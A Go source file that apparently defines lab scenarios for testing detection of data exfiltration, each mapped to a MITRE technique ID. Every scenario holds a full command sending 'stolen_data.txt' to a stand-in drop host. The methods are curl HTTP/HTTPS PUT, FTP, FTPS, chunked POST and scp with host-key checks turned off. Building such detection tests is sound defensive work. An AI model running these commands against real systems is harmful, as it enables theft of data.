package lab

// uploads steal the file with tools that any image may hold.
func uploads() []Scenario {
	return []Scenario{
		{
			Name:      "http_put",
			Summary:   "IcedID's HTTP PUT, as the ADS validates it",
			Command:   `curl --upload-file stolen_data.txt http://external-server.com/upload`,
			Technique: "T1048.003", Process: "/usr/bin/curl", Declared: true,
		},
		{
			Name:    "ftp_put",
			Summary: "FTP put, as the ADS validates it",
			Command: `ftp -inv $FTP_SERVER << EOF
user username password
put stolen_data.txt
quit
EOF`,
			Technique: "T1048.003", Process: "/usr/bin/ftp",
		},
		{
			Name:      "ftps",
			Summary:   "FTP over TLS (RFC 4217), control and data",
			Command:   `curl --silent --ssl-reqd --insecure -u username:password --upload-file stolen_data.txt ftp://$FTP_SERVER/`,
			Technique: "T1048.002", Process: "/usr/bin/curl", Needs: "vsftpd",
		},
		{
			Name:    "ftp_active",
			Summary: "active FTP: the server opens the data channel",
			Command: `ftp -A -inv $FTP_SERVER << EOF
user username password
put stolen_data.txt
quit
EOF`,
			Technique: "T1048.003", Process: "/usr/bin/ftp", Needs: "vsftpd",
		},
		{
			Name:      "h2_put",
			Summary:   "HTTP/2 PUT in cleartext, with prior knowledge",
			Command:   `curl --silent --http2-prior-knowledge --upload-file stolen_data.txt http://drop.example/upload`,
			Technique: "T1048.003", Process: "/usr/bin/curl", Declared: true,
		},
		{
			Name:      "https_put",
			Summary:   "HTTPS PUT",
			Command:   `curl --silent --cacert /data/sink.pem --upload-file stolen_data.txt https://drop.example/upload`,
			Technique: "T1048.002", Process: "/usr/bin/curl",
		},
		{
			Name:      "chunked_post",
			Summary:   "HTTP POST that does not say how much comes",
			Command:   `exfil-lab attack --to drop.example:80 --file stolen_data.txt chunked`,
			Technique: "T1048.003", Process: "/usr/bin/exfil-lab",
		},
		{
			Name:    "scp",
			Summary: "scp to an SSH server",
			Command: `cp /data/client.key /tmp/key && chmod 600 /tmp/key &&
scp -q -i /tmp/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null stolen_data.txt root@drop.example:/upload/`,
			Technique: "T1048.002", Process: "/usr/bin/ssh", Needs: "sshd",
		},
	}
}
